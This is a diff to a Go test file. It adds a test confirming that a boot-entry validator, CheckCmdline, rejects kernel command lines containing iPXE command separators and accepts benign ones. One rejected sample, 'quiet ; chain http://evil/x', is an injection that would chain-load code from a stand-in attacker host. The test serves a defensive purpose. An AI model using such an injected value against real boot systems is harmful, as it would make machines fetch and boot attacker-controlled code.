@@ -358,3 +358,16 @@ func TestListIgnoresOtherNames(t *testing.T) {
 		t.Errorf("GetVersion with a path for an ID = %v, want ErrNotFound", err)
 	}
 }
+
+func TestCheckCmdlineRefusesIPXECommandSeparators(t *testing.T) {
+	for _, c := range []string{"quiet ; chain http://evil/x", "a || b", "a && b", "console=ttyS0 #comment"} {
+		if err := bootentry.CheckCmdline(c); err == nil {
+			t.Errorf("CheckCmdline(%q) accepted it", c)
+		}
+	}
+	for _, c := range []string{"init=/nix/store/x-nixos/init console=ttyS0 loglevel=4", "a=b;c", "root=x#y"} {
+		if err := bootentry.CheckCmdline(c); err != nil {
+			t.Errorf("CheckCmdline(%q): %v", c, err)
+		}
+	}
+}
